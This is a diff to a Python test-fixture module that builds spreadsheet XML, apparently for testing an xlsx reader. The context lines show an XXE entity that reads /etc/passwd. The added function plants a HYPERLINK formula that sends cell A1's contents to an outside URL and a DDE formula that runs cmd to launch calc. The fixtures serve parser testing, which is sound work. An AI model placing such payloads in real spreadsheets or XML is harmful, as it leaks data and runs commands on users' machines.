@@ -144,3 +144,21 @@ def external_entity(target: str = "file:///etc/passwd") -> str:
         f'{PROLOG}<!DOCTYPE sst [<!ENTITY xxe SYSTEM "{target}">]>'
         f'<sst {MAIN} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
     )
+
+
+def formula_sheet(grid: Grid) -> str:
+    """The worksheet with formulas in B2 (a HYPERLINK that Excel calculated: its saved
+    value is the cell's text), C2 (DDE, saved value ``Zoë``) and D2 (never calculated: no
+    saved value)."""
+    xml = sheet_xml(grid)
+    cells = {
+        "B2": '<c r="B2" t="str"><f>HYPERLINK("http://example.org/?"&amp;A1,"x")</f>'
+        f"<v>{escape(grid[1][1])}</v></c>",
+        "C2": """<c r="C2" t="str"><f>cmd|' /C calc'!A0</f><v>Zoë</v></c>""",
+        "D2": '<c r="D2"><f>1+1</f></c>',
+    }
+    for ref, cell in cells.items():
+        start = xml.index(f'<c r="{ref}"')
+        end = xml.index("</c>", start) + len("</c>")
+        xml = xml[:start] + cell + xml[end:]
+    return xml
